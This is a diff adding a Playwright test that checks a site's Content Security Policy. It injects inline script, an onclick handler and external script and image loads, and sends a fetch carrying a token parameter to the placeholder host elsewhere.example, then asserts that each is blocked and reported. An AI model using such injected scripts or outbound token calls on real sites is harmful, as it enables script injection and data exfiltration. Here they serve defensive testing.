@@ -1,0 +1,40 @@
+import { expect, test } from './fixtures.ts';
+
+test.use({ reported: /Content Security Policy/ });
+
+test('nothing that is slipped into a page runs, loads or tells anybody outside', async ({ page }) => {
+  const told: string[] = [];
+  page.on('console', (message) => told.push(message.text()));
+  await page.goto('/');
+  await expect(page.getByRole('navigation').first()).toBeVisible();
+  const tried = await page.evaluate(async () => {
+    const loading = (name: 'script' | 'img') =>
+      new Promise<string>((resolve) => {
+        const element = document.createElement(name);
+        element.addEventListener('load', () => resolve('loaded'));
+        element.addEventListener('error', () => resolve('refused'));
+        element.src = `https://elsewhere.example/${name}`;
+        document.body.append(element);
+      });
+    const inline = document.createElement('script');
+    inline.textContent = 'document.title = "slipped in"';
+    document.body.append(inline);
+    const handler = document.createElement('button');
+    handler.setAttribute('onclick', 'document.title = "slipped in"');
+    document.body.append(handler);
+    handler.click();
+    return {
+      title: document.title,
+      script: await loading('script'),
+      image: await loading('img'),
+      call: await fetch('https://elsewhere.example/?token=1').then(
+        () => 'sent',
+        () => 'refused',
+      ),
+    };
+  });
+  expect(tried).toMatchObject({ script: 'refused', image: 'refused', call: 'refused' });
+  // The tests of every other page fail when they hear of one.
+  expect(told.filter((text) => text.includes('Content Security Policy')).length).toBeGreaterThanOrEqual(5);
+  expect(tried.title).not.toBe('slipped in');
+});
